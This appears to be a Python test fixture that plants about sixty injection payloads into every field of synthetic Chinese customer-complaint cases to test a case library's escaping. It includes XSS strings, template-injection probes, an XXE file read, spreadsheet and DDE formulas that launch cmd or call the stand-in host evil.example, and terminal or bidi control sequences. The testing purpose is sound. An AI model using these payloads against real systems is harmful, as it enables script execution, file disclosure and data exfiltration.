"""Sixty texts that want to be code, planted in every place of a case base that a document, a client or a student fills."""
# ruff: noqa: E501

from __future__ import annotations

from caselib.casebase import Cases
from caselib.model import Case, Episode, Field, Guide, GuideItem, Link, Mention, SourceText, Span

OUTSIDE = "http://evil.example"
RUN = "window.pwned=1"

PAYLOADS: tuple[str, ...] = (
    # HTML
    f"<script>{RUN}</script>", f"</script><script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", f"<iframe src=\"javascript:{RUN}\"></iframe>", f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>", f"<a href=\"javascript:{RUN}\">点</a>", f"<math><a xlink:href=\"javascript:{RUN}\">点</a></math>",
    f"<video><source onerror={RUN}></video>", f"<style>@import '{OUTSIDE}/a.css';</style>", f"<link rel=stylesheet href={OUTSIDE}/a.css>",
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}'>", f"<base href={OUTSIDE}>", f"<object data={OUTSIDE}/a></object>", f"<form action={OUTSIDE}><button>送</button></form>",
    f"\"><script>{RUN}</script>", f"'><script>{RUN}</script>", f"\" onmouseover=\"{RUN}", f"' onclick='{RUN}", f"--><script>{RUN}</script><!--", f"]]><script>{RUN}</script>",
    f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>", f"</style><script>{RUN}</script>", f"<img src={OUTSIDE}/p.png>", f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "&#60;script&#62;", f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">", f"<xmp><p title=\"</xmp><img src=x onerror={RUN}>\">",
    # JavaScript strings and templates
    f"\\u003cscript\\u003e{RUN}", f"';{RUN};//", f"\";{RUN};//", "${" + RUN + "}", f"`;{RUN};`", f"\u2028{RUN}\u2029", "{{7*7}}", "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{ config.__class__.__init__.__globals__ }}", "#{7*7}", "<%= 7*7 %>",
    # XML
    "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/hostname\">]>&a;", "<?xml-stylesheet href=\"x.xsl\"?>", "<![CDATA[x]]>",
    # spreadsheets
    "=1+1", f"=HYPERLINK(\"{OUTSIDE}\",\"点\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", f"=WEBSERVICE(\"{OUTSIDE}\")", "＝1+1",
    # office fields, quizzes, Typst, terminals
    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"", "INCLUDETEXT \"/etc/hostname\"", "~=%100%对#错}{", "::题::{=对 ~错}", "$a \\\\= b$", "#import \"a.typ\"; #read(\"/etc/hostname\")",
    "\x1b[31m红\x1b[2J", "\x1b]0;题\x07", "\x9b31m", "\x1b]8;;http://evil.example\x07点\x1b]8;;\x07", "退\u202e款\u202c",
)  # fmt: skip


def planted(payloads: tuple[str, ...] = PAYLOADS) -> Cases:
    """A case for each payload: in its text, title, quotes, parties, file name; and a guide that holds it.

    The first case holds all of them: what is written of a single case is written of that one.
    """
    cases, texts, guides = [], {}, []
    for number, payload in enumerate(("，".join(payloads), *payloads)):
        doc = f"{number:02}_{payload}.txt"
        pieces = (f"案例{number} {payload}", "\n", "客户", f"空调不制冷{payload}", "，", f"要求退款{payload}", "。店方", f"退款{payload}", "，客户", f"满意{payload}", "。\n",
                  f"一、先道歉{payload}", "\n", f"二、再退款{payload}", "\n")  # fmt: skip
        text, spans = "", []
        for piece in pieces:
            spans.append(Span(len(text), len(text) + len(piece)))
            text += piece
        # Several codes: a quiz asks for one among others.
        cause, action, ending = (codes[number % len(codes)] for codes in (("defect", "delay", "attitude", "misinformation"), ("refund", "apologise", "repair", "compensate"), ("satisfied", "resolved")))
        told = (("m1", "cause", cause, "", 3), ("m2", "action", "refund", "demanded", 5), ("m3", "action", action, "done", 7), ("m4", "outcome", ending, "", 9))
        mentions = tuple(Mention(name, role, code, status, spans[i], pieces[i], "cue", 0.9, "carried_out" if status == "done" else "") for name, role, code, status, i in told)
        cases.append(
            Case(
                f"u{number}", doc, Span(0, spans[10].end), "incident", title=Field(pieces[0], spans[0], "case_heading"), industry=Field("appliances", None, "words"),
                organisation=Field(payload, spans[0], "x"), product=Field(payload, spans[0], "x"), place=Field(payload, spans[0], "x"), year=Field(2015 + number % 7, None, "x"),
                customer=Field(payload, spans[0], "x"), final=Field("positive", None, "last"), mentions=mentions, episodes=(Episode(("m1",), ("m3",), ("m4",)),),
                links=(Link("m1", "m3", "sequence", None, 0), Link("m3", "m4", "sequence", None, 0)), cluster=f"{doc}#0-{spans[10].end}",
            )
        )  # fmt: skip
        items = tuple(GuideItem(pieces[i], pieces[i], spans[i], ("apologise",)) for i in (11, 13))
        guides.append(Guide(doc, "steps", f"步骤{payload}", Span(spans[11].start, spans[13].end), items, "items"))
        texts[doc] = SourceText(doc, text)
    return Cases(tuple(cases), tuple(guides), texts)
